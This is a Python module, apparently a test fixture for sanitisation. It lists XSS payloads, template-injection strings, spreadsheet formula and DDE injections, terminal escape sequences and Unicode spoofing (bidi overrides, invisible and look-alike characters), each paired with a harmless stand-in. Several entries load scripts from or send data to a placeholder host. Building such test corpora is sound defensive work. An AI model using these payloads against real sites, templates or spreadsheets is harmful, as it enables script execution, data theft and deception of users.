"""Text as an attacker writes it, by kind, and harmless words to put in its place. ``MARK`` stands in nearly each.

After the OWASP cheat sheet on evading XSS filters, the mutation cases of DOMPurify's tests, Unicode Technical Reports
36 and 39, and Trojan Source (CVE-2021-42574). Written anew here; nothing in it is about anybody.
"""

from __future__ import annotations

from collections.abc import Callable

from adapters.picture.neutral import has_mixed_scripts

MARK = "zq9"
_CALL = "alert('zq9')"
SCRIPTS: dict[str, tuple[str, ...]] = {
    "elements": (
        f"<script>{_CALL}</script>",
        f"<ScRiPt>{_CALL}</sCrIpT >",
        f"<script/x>{_CALL}</script\t\n>",
        f"<<script>{_CALL}//<</script>",
        "<script src=//zq9.example/x.js></script>",
        "<script type=module>import('//zq9.example')</script>",
        f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
        f'<object data="javascript:{_CALL}"></object><embed src=//zq9.example>',
        "<base href=//zq9.example/><link rel=stylesheet href=//zq9.example/x.css>",
        f'<meta http-equiv="refresh" content="0;url=javascript:{_CALL}">',
        "<form action=//zq9.example><input name=form_token><button>zq9</button></form>",
        f"<marquee onstart={_CALL}>zq9</marquee><template>zq9</template><slot name=zq9>",
    ),
    "handlers": (
        f"<img src=x onerror={_CALL}>",
        "<img src=x onerror=\"&#97;lert('zq9')\">",
        f"<body onload={_CALL}><details open ontoggle={_CALL}>zq9",
        f"<input autofocus onfocus={_CALL}><video><source onerror={_CALL}>",
        f"<a href=x onmouseover={_CALL} style=position:fixed;inset:0>zq9</a>",
        f"<div onpointerrawupdate={_CALL} onbeforematch={_CALL} hidden=until-found>zq9</div>",
    ),
    "out of an attribute": (
        f'" autofocus onfocus="{_CALL}" x="',
        f"' autofocus onfocus='{_CALL}' x='",
        f'"><svg onload={_CALL}>',
        f"' ><img src=x onerror={_CALL}>",
        f"` onmouseover={_CALL} `",
        f"x onmouseover={_CALL} zq9=",
        f'zq9" formaction="javascript:{_CALL}',
    ),
    "svg and math": (
        f"<svg onload={_CALL}><script>{_CALL}</script></svg>",
        f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
        f"<svg><foreignObject><iframe src=javascript:{_CALL}></foreignObject></svg>",
        f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload={_CALL}/>#x\"/>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
        f"<math href=javascript:{_CALL}>zq9</math>",
    ),
    "out of the element": (
        f"</title><script>{_CALL}</script>",
        f"</textarea><script>{_CALL}</script>",
        f"</style><script>{_CALL}</script>",
        f"</script><script>{_CALL}</script>",
        f"</bdi></p></td></main><img src=x onerror={_CALL}>",
        f"</option></select><img src=x onerror={_CALL}>",
        f"</text></svg><img src=x onerror={_CALL}>",
    ),
    "comments": (
        f"<!--><img src=x onerror={_CALL}>-->",
        f"--><script>{_CALL}</script>",
        f"<!--[if gte IE 4]><script>{_CALL}</script><![endif]-->",
        f"<![CDATA[<script>{_CALL}</script>]]>",
        f"<?xml-stylesheet href=javascript:{_CALL}?>zq9",
        f"<!DOCTYPE html><html><body onload={_CALL}>",
    ),
    "mutation": (
        f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
        f'<svg></p><style><a id="</style><img src=1 onerror={_CALL}>">',
        f'<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={_CALL} src>">',
        f"<listing>&lt;img src=1 onerror={_CALL}&gt;</listing>",
        f'<x/><title><a href="</title><img src onerror={_CALL}>">zq9',
        f"&lt;img src=x onerror={_CALL}&gt;",
    ),
    "templates": (
        "{{ 7*7 }} zq9",
        "{{ config }} {{ self.__init__.__globals__ }} zq9",
        "{% for x in ().__class__.__base__.__subclasses__() %}zq9{% endfor %}",
        "{# zq9 #} {% raw %} ${7*7} #{7*7} <%= 7*7 %> zq9",
        "%(zq9)s %s %d %(case)s {0} {zq9} {zq9!r:>{1}}",
        "{{constructor.constructor('alert(1)')()}} zq9",
    ),
    "addresses": (
        f"javascript:{_CALL}",
        f"JaVaScRiPt:{_CALL}",
        f" \tjava\nscript:{_CALL}",
        f"java&#x09;script:{_CALL}",
        "data:text/html;base64,PHNjcmlwdD4= zq9",
        "vbscript:msgbox(zq9)",
        "https://zq9.example/steal?x=1",
        "//zq9.example/x",
        "www.zq9.example and zq9@zq9.example and tel:+447700900000",
    ),
    "links as writing programs make them": (
        f"[zq9](javascript:{_CALL})",
        "![zq9](//zq9.example/x.png)",
        "<https://zq9.example> <zq9@zq9.example>",
        "[zq9]: //zq9.example 'zq9'",
        "[url=//zq9.example]zq9[/url] [[zq9]]",
    ),
    "style": (
        "<style>@import '//zq9.example/x.css'; * {display:none}</style>",
        '<p style="background:url(//zq9.example)">zq9</p>',
        "zq9}</style>body{background:url(//zq9.example)",
        "expression(alert('zq9')); -moz-binding:url(//zq9.example)",
    ),
    "encodings": (
        f"%3Cscript%3E{_CALL}%3C/script%3E",
        f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
        f"&#60;script&#62;{_CALL}&#60;/script&#62;",
        f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-",
        f"＜script＞{_CALL}＜/script＞",
        "\u2039script\u203azq9 \u02bc\u02ba",
        f"<scr\x00ipt>{_CALL}</script>",
        f"<img\x0csrc=x\x0bonerror={_CALL}>",
        f"\ufeff<script>{_CALL}</script>",
        f"<\u0338script>{_CALL}",
    ),
    "terminals": (
        "\x1b[2J\x1b[31mzq9\x1b[0m",
        "\x1b]0;zq9\x07\x1b]8;;//zq9.example\x1b\\zq9\x1b]8;;\x1b\\",
        "\x9b31mzq9\x8d\x85",
        "zq9\rnothing\b\b\b[red]zq9[/red] [link=//zq9.example]zq9[/link]",
    ),
    "formulas": (
        '=HYPERLINK("//zq9.example","zq9")',
        "+1+cmd|' /C zq9'!A0",
        "-2+3+zq9",
        "@SUM(zq9)",
        "\t=zq9",
        "|zq9",
        "%zq9",
    ),
}
"""Kind to texts that would run, lead somewhere or change the page, were they taken for more than text."""

UNICODE: dict[str, tuple[str, ...]] = {
    "direction": (
        "zq9 \u202eEgduj eht ot dlot\u202c",
        "zq9 \u202dabc\u202c \u202a\u202b",
        "zq9 \u2066not\u2069 \u2067guilty\u2069 \u2068x",
        "/*\u202e } \u2066if (zq9)\u2069 \u2066 begin",
        "\u2067\u2067\u2067zq9 never closed",
        "zq9 \u206a\u206b\u206c\u206d\u206e\u206f",
    ),
    "nothing to see": (
        "z\u200bq9 zq9\u200b\u2060\ufeff",
        "zq9 \u2061\u2062\u2063\u2064 \u180e",
        "zq9 " + "".join(chr(0xE0000 + ord(char)) for char in "hidden words") + "\U000e007f",
        "zq9 \u3164\u115f\u1160\uffa0",
        "zq9 \ufff9a\ufffab\ufffb",
    ),
    "look-alikes": (
        "zq9 R\u043ebin Ex\u0430mple",
        "zq9 \u0420aul P\u03b1ul",
        "zq9 \u216baul \U0001d400lice \uff21lice",
        "zq9 \u0555li\u0581",
    ),
    "marks": (
        "zq9 H" + "\u0335\u0321\u034a\u0353" * 25 + "e",
        "zq9 a\u0300\u0301\u0302",
        "\u0301\u0301zq9",
    ),
    "private, odd and broken": (
        "zq9 \ue000\uf8ff\U000f0000\U0010fffd",
        "zq9 \ud83d and \udc00",
        "zq9 \ufffe \uffff \U0001ffff",
        "zq9\u2028\u2029zq9\x85zq9",
        "zq9 \U0001f469\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f",
    ),
    "long": (
        "zq9" + "W" * 400,
        "zq9" + "\u0639" * 300,
        "zq9 " + "a-" * 200,
    ),
    "names that are as they should be": (
        "zq9 \u0645\u062d\u0645\u062f \u0639\u0644\u06cc\u200c\u0631\u0636\u0627",
        "zq9 \u05d9\u05e2\u05e7\u05d1 \u05db\u05d4\u05df",
        "zq9 Nguy\u1ec5n Th\u1ecb H\u1ed3ng",
        "zq9 \u0410\u043b\u0435\u043a\u0441\u0435\u0439",
        "zq9 \u674e\u5c0f\u9f99 O\u2019Brien-\u0141ukasz",
    ),
}
"""Kind to texts that would look like something else, or move what stands around them."""

TEXTS: tuple[str, ...] = tuple(text for kinds in (SCRIPTS, UNICODE) for texts in kinds.values() for text in texts)
NAMES_AS_THEY_SHOULD_BE = UNICODE["names that are as they should be"]


def harmless(text: str) -> str:
    """Return words that a page should treat as it treats this text: as long in lines, flagged if it is."""
    flagged = "P\u0430ul " if has_mixed_scripts(text) else ""
    return f"zq9 words {flagged}number {TEXTS.index(text) + 1}"


class one_after_another:  # noqa: N801 - it is called as a function is
    """Gives the next text each time it is called, and begins again after the last. ``put`` changes each."""

    def __init__(self, texts: tuple[str, ...] = TEXTS, put: Callable[[str], str] = str) -> None:
        self._texts, self._put, self._place = texts, put, -1

    def __call__(self) -> str:
        self._place += 1
        return self._put(self._texts[self._place % len(self._texts)])

    def begin(self) -> None:
        """Begin with the first again."""
        self._place = -1
